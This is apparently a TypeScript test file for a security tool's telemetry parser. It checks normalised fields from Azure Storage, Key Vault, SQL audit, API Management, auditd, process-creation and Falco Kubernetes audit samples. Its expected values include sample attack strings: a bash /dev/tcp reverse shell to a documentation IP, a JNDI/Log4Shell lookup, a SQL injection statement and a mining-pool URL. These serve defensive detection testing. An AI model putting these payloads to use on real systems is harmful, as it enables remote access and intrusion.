/**
 * Each telemetry format on the shared samples (../shared/data/telemetry/samples) and the real Falco Kubernetes audit
 * trace files: exact field values of the normalised events.
 */
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { SecurityEvent } from '../../src/protection/event.js';
import { readTelemetry, type TelemetryReadOptions } from '../../src/protection/telemetry/index.js';
import { SHARED_DATA } from '../shared-data.js';

const SAMPLES = join(SHARED_DATA, 'telemetry', 'samples');
const FALCO = join(SHARED_DATA, 'telemetry', 'k8s-audit', 'falco-trace-files');
const HAVE_SHARED = existsSync(SAMPLES) && existsSync(FALCO);
if (!HAVE_SHARED) console.warn(`telemetry format tests skipped: ${SAMPLES} is not there (set PALISADE_SHARED_DATA)`);

const SUB = '00000000-0000-0000-0000-000000000000';
const VM = `/subscriptions/${SUB}/resourceGroups/rg-web/providers/Microsoft.Compute/virtualMachines/web-01`;
const SQL_DB = `/subscriptions/${SUB}/resourceGroups/rg-data/providers/Microsoft.Sql/servers/contoso-sql/databases/sales`;
const APIM = `/subscriptions/${SUB}/resourceGroups/rg-api/providers/Microsoft.ApiManagement/service/contoso`;
const AKS = `/subscriptions/${SUB}/resourceGroups/rg-aks/providers/Microsoft.ContainerService/managedClusters/aks-01`;

async function read(file: string, options: TelemetryReadOptions = {}) {
  const stream = readTelemetry(join(SAMPLES, file), options);
  const events = await stream.toArray();
  return { events, stats: stream.stats, rejected: stream.rejected };
}

describe.runIf(HAVE_SHARED)('telemetry formats on the shared samples', () => {
  it('storage blob resource logs (envelope): StorageBlobLogs column names, account-level resource, hex MD5', async () => {
    const { events, stats, rejected } = await read('storage-blob-resource-logs.json');
    expect(rejected).toEqual([]);
    expect(stats).toMatchObject({ files: 1, records: 4, events: 4, rejected: 0 });
    const [put, list404, list, get] = events;
    expect(put).toMatchObject({
      source: 'storageBlob',
      time: Date.UTC(2024, 5, 10, 10, 0, 1),
      resourceId: `/subscriptions/${SUB}/resourceGroups/rg-data/providers/Microsoft.Storage/storageAccounts/contosodata01`,
      subscriptionId: SUB,
      operation: 'PutBlob',
      outcome: 'success',
      callerIp: '204.8.96.141',
      userAgent: 'curl/8.5.0',
      origin: { file: join(SAMPLES, 'storage-blob-resource-logs.json'), line: 4, path: '$.records[0]' },
    });
    expect(put.principal).toBeUndefined();
    expect(put.fields).toMatchObject({
      OperationName: 'PutBlob',
      Category: 'StorageWrite',
      StatusCode: 201,
      StatusText: 'Success',
      CallerIpAddress: '204.8.96.141:51234',
      AuthenticationType: 'SAS',
      AuthenticationHash: 'key1(0000),SasSignature(0000)',
      AccountName: 'contosodata01',
      UserAgentHeader: 'curl/8.5.0',
      ServiceType: 'blob',
      ObjectKey: '/contosodata01/uploads/invoice.com',
      RequestBodySize: 68,
      RequestMd5: 'RNiGEv6oqPNt6C4SeKuwLw==',
      RequestMd5Hex: '44d88612fea8a8f36de82e1278abb02f',
      ContainerName: 'uploads',
      BlobName: 'invoice.com',
      Uri: 'https://contosodata01.blob.core.windows.net:443/uploads/invoice.com?sv=2021-08-06&sig=XXXXX',
      Protocol: 'HTTPS',
    });
    expect(list404).toMatchObject({ operation: 'ListBlobs', outcome: 'failure', callerIp: '203.0.113.50' });
    expect(list404.fields).toMatchObject({ StatusCode: 404, AuthenticationType: 'Anonymous', ContainerName: 'backup' });
    expect(list404.fields.BlobName).toBeUndefined();
    expect(list.fields).toMatchObject({ ResponseBodySize: 4096, ContainerName: 'public' });
    expect(get.fields).toMatchObject({ ResponseBodySize: 734003200, BlobName: 'customers.csv' });
  });

  it('Key Vault AuditEvent (envelope): claims, status-code outcome, object names', async () => {
    const { events, rejected } = await read('keyvault-auditevent.json');
    expect(rejected).toEqual([]);
    expect(events.map((e) => e.operation)).toEqual(['SecretList', 'SecretGet', 'SecretGet', 'SecretGet', 'VaultGet']);
    const [list, get] = events;
    expect(list).toMatchObject({
      source: 'keyVault',
      time: Date.UTC(2024, 5, 10, 11, 0, 0),
      resourceId: `/SUBSCRIPTIONS/${SUB}/RESOURCEGROUPS/RG-SEC/PROVIDERS/MICROSOFT.KEYVAULT/VAULTS/CONTOSO-KV`,
      subscriptionId: SUB,
      outcome: 'success',
      callerIp: '204.8.96.141',
      principal: 'mallory@contoso.example',
      userAgent: 'python/3.11 azure-keyvault-secrets/4.7.0',
    });
    expect(list.fields).toMatchObject({
      OperationName: 'SecretList',
      ResultType: 'Success',
      ResultSignature: 'OK',
      HttpStatusCode: 200,
      RequestUri: 'https://contoso-kv.vault.azure.net/secrets?api-version=7.4',
      IdentityObjectId: '11111111-2222-3333-4444-555555555555',
      IdentityAppId: '04b07795-8ddb-461a-bbee-02f9e1bf7b46',
      IdentityUpn: 'mallory@contoso.example',
      ObjectType: 'secrets',
      CallerIpAddress: '204.8.96.141',
    });
    expect(list.fields.ObjectName).toBeUndefined();
    expect(get.fields).toMatchObject({ ObjectType: 'secrets', ObjectName: 'db-password', Id: 'https://contoso-kv.vault.azure.net/secrets/db-password/0123456789abcdef0123456789abcdef' });
    // resultType Success but HTTP 403: the status code decides
    expect(events[4]).toMatchObject({ operation: 'VaultGet', outcome: 'failure', callerIp: '198.51.100.7', principal: 'eve@contoso.example' });
    expect(events[4].fields.HttpStatusCode).toBe(403);
  });

  it('SQL audit as AzureDiagnostics rows: audit names, booleans, error codes; the resource from the option', async () => {
    const { events, rejected } = await read('sql-audit-azurediagnostics.json', { resourceId: SQL_DB });
    expect(rejected).toEqual([]);
    expect(events.map((e) => e.operation)).toEqual([
      ...Array(6).fill('DATABASE_AUTHENTICATION_FAILED'),
      'DATABASE_AUTHENTICATION_SUCCEEDED',
      'BATCH_COMPLETED',
    ]);
    expect(events[0]).toMatchObject({
      source: 'sqlAudit',
      time: Date.UTC(2024, 5, 10, 12, 0, 0),
      resourceId: SQL_DB,
      outcome: 'failure',
      callerIp: '203.0.113.77',
      principal: 'sa_app',
      userAgent: 'Microsoft SQL Server Management Studio',
    });
    expect(events[0].fields).toMatchObject({
      action_id: 'DBAF',
      action_name: 'DATABASE AUTHENTICATION FAILED',
      succeeded: false,
      server_principal_name: 'sa_app',
      database_name: 'sales',
      logical_server_name: 'contoso-sql',
      client_ip: '203.0.113.77',
      host_name: 'WIN-ATTACK01',
      error_code: 18456,
      affected_rows: 0,
      session_id: 71,
      is_server_level_audit: false,
    });
    expect(events[6]).toMatchObject({ outcome: 'success', time: Date.UTC(2024, 5, 10, 12, 0, 7) });
    expect(events[7].fields).toMatchObject({ action_id: 'BCM', statement: "SELECT * FROM Orders WHERE Id = '1'' OR 1=1 --", error_code: 102, succeeded: false });
    expect(events[7]).toMatchObject({ callerIp: '10.0.0.4', principal: 'webapp' });
  });

  it('SQL rows without any resource id are rejected as TelemetryNoResourceId, each with its location', async () => {
    const { events, stats, rejected } = await read('sql-audit-azurediagnostics.json');
    expect(events).toEqual([]);
    expect(stats.rejectedByCode).toEqual({ TelemetryNoResourceId: 8 });
    expect(rejected[2].origin).toEqual({ file: join(SAMPLES, 'sql-audit-azurediagnostics.json'), line: 50, path: '$.records[2]' });
  });

  it('APIM gateway logs (Log Analytics rows): columns, URL parts, the User-Agent header', async () => {
    const { events, rejected } = await read('apim-gateway-logs.json', { resourceId: APIM });
    expect(rejected).toEqual([]);
    expect(events).toHaveLength(3);
    expect(events[0]).toMatchObject({ source: 'apim', operation: 'GET', outcome: 'success', callerIp: '203.0.113.20', userAgent: 'Mozilla/5.0', resourceId: APIM });
    expect(events[0].fields).toMatchObject({
      Method: 'GET',
      Url: 'https://contoso.azure-api.net/orders/v1/orders/42',
      UrlPath: '/orders/v1/orders/42',
      ApiId: 'orders-api',
      OperationId: 'get-order',
      ResponseCode: 200,
      BackendResponseCode: 200,
      RequestSize: 420,
      ResponseSize: 512,
      TotalTime: 35,
      IsRequestSuccess: true,
      'RequestHeaders.User-Agent': 'Mozilla/5.0',
      ApimSubscriptionId: 'sub-123',
    });
    expect(events[1].callerIp).toBe('204.8.96.141');
    expect(events[2]).toMatchObject({ outcome: 'failure', callerIp: '203.0.113.99', userAgent: '${jndi:ldap://203.0.113.99:1389/a}' });
    expect(events[2].fields.ResponseCode).toBe(400);
  });

  it('auditd: records grouped by serial, hex arguments and PROCTITLE decoded, Sigma names set', async () => {
    const { events, stats, rejected } = await read('linux-auditd-execve.log', { resourceId: VM });
    expect(rejected).toEqual([]);
    expect(stats).toMatchObject({ records: 5, events: 1, skipped: 0 });
    const [e] = events;
    expect(e).toMatchObject({
      source: 'processEvent',
      time: 1718020800123,
      resourceId: VM,
      operation: 'execve',
      outcome: 'success',
      principal: '33',
      origin: { file: join(SAMPLES, 'linux-auditd-execve.log'), line: 2 },
    });
    expect(e.fields).toMatchObject({
      Image: '/usr/bin/bash',
      CommandLine: 'bash -c bash -i >& /dev/tcp/203.0.113.10/4444 0>&1',
      CurrentDirectory: '/var/www/html',
      ProcessId: 1901,
      ParentProcessId: 1834,
      User: '33',
      type: 'EXECVE',
      a0: 'bash',
      a1: '-c',
      a2: 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1',
      argc: '3',
      exe: '/usr/bin/bash',
      comm: 'bash',
      key: 'exec',
      syscall: '59',
      uid: '33',
      name: '/usr/bin/bash',
      proctitle: 'bash -c bash -i >& /dev/tcp/203.0.113.10/4444 0>&1',
    });
  });

  it('process creation JSON Lines with Sysmon names, UtcTime read as UTC', async () => {
    const { events, rejected } = await read('linux-process-creation.jsonl', { resourceId: VM });
    expect(rejected).toEqual([]);
    expect(events.map((e) => e.fields.Image)).toEqual(['/usr/bin/bash', '/usr/bin/curl', '/tmp/.x/kswapd0', '/usr/bin/ls']);
    expect(events[0]).toMatchObject({ source: 'processEvent', operation: 'execve', outcome: 'success', principal: 'www-data', time: Date.UTC(2024, 5, 10, 13, 0, 0) });
    expect(events[0].fields).toMatchObject({
      EventID: 1,
      Computer: 'web-01',
      ProcessId: 1901,
      CommandLine: 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1',
      ParentImage: '/usr/sbin/php-fpm8.2',
      ParentCommandLine: 'php-fpm: pool www',
      ParentProcessId: 1834,
      CurrentDirectory: '/var/www/html',
    });
    expect(events[2].fields.CommandLine).toContain('stratum+tcp://pool.example.net:3333');
    expect(events[3].principal).toBe('deploy');
  });
});

describe.runIf(HAVE_SHARED)('the real Falco Kubernetes audit trace files', () => {
  let events: SecurityEvent[] = [];
  let stream: ReturnType<typeof readTelemetry>;
  const byFile = (name: string): SecurityEvent[] => events.filter((e) => e.origin.file === join(FALCO, name));

  it('all 51 well-formed events of the 47 files parse; the malformed one is rejected with its location', async () => {
    stream = readTelemetry(FALCO, { format: 'kubernetesAudit', resourceId: AKS });
    events = await stream.toArray();
    expect(stream.stats.files).toBe(47);
    expect(stream.stats.events).toBe(51);
    expect(stream.stats.rejected).toBe(1);
    expect(stream.rejected[0]).toMatchObject({
      code: 'TelemetryInvalidRecord',
      origin: { file: join(FALCO, 'fal_01_003.json'), line: 1, path: '$.kind' },
    });
    expect(new Set(events.map((e) => e.resourceId))).toEqual(new Set([AKS]));
    // merged by time across files
    for (let i = 1; i < events.length; i++) expect(events[i].time).toBeGreaterThanOrEqual(events[i - 1].time);
  });

  it('flattens pod specs: privileged containers, host paths, images', () => {
    const [privileged] = byFile('create_nginx_pod_privileged.json');
    expect(privileged).toMatchObject({
      operation: 'create',
      outcome: 'success',
      principal: 'system:serviceaccount:kube-system:replicaset-controller',
      callerIp: '::1',
      time: Date.parse('2018-10-25T14:09:12.572Z'),
    });
    expect(privileged.fields).toMatchObject({
      verb: 'create',
      'objectRef.resource': 'pods',
      'objectRef.namespace': 'default',
      'responseStatus.code': 201,
      'requestObject.kind': 'Pod',
      'requestObject.spec.containers[].securityContext.privileged': ['true'],
      'requestObject.spec.containers[].image': ['nginx'],
      'sourceIPs[]': ['::1'],
      'user.groups[]': ['system:serviceaccounts', 'system:serviceaccounts:kube-system', 'system:authenticated'],
      containerImages: ['nginx'],
    });
    const [second] = byFile('create_nginx_pod_privileged_2nd_container.json');
    expect(second.fields['requestObject.spec.containers[].securityContext.privileged']).toEqual(['false', 'true']);
    expect(second.fields['requestObject.spec.containers[].image']).toHaveLength(2);
    const [mount] = byFile('create_nginx_pod_sensitive_mount.json');
    expect(mount.fields.hostPath).toEqual(['/etc']);
    const [unprivileged] = byFile('create_nginx_pod_unprivileged.json');
    expect(unprivileged.fields['requestObject.spec.containers[].securityContext.privileged']).toBeUndefined();
    expect(unprivileged.fields.hostPath).toBeUndefined();
  });

  it('reads RBAC bindings, exec into pods, secrets and multi-event files', () => {
    const [binding] = byFile('attach_cluster_admin_role.json');
    expect(binding.fields).toMatchObject({
      'objectRef.resource': 'clusterrolebindings',
      'objectRef.apiGroup': 'rbac.authorization.k8s.io',
      'requestObject.roleRef.name': 'cluster-admin',
      'requestObject.subjects[].name': ['minikube'],
    });
    const [exec] = byFile('exec_pod.json');
    expect(exec).toMatchObject({ operation: 'create', principal: 'minikube-user', callerIp: '192.168.99.1', outcome: 'success' });
    expect(exec.fields).toMatchObject({ 'objectRef.subresource': 'exec', 'responseStatus.code': 101, stage: 'ResponseStarted' });
    const [secret] = byFile('create_secret.json');
    expect(secret).toMatchObject({ userAgent: 'kubectl/v1.17.3 (darwin/amd64) kubernetes/06ad960' });
    expect(byFile('create_configmap_sensitive_values.json')).toHaveLength(6);
    expect(byFile('create_nginx_service_nodeport.json')[0].fields['requestObject.spec.type']).toBe('NodePort');
  });

  it('detects the format without being told (folder-less read), rejecting only the malformed event', async () => {
    const s = readTelemetry(FALCO, { resourceId: AKS });
    const all = await s.toArray();
    expect(all).toHaveLength(51);
    expect(s.stats.rejectedByCode).toEqual({ TelemetryUnknownFormat: 1 });
    expect(all.every((e) => e.source === 'kubernetesAudit')).toBe(true);
  });
});
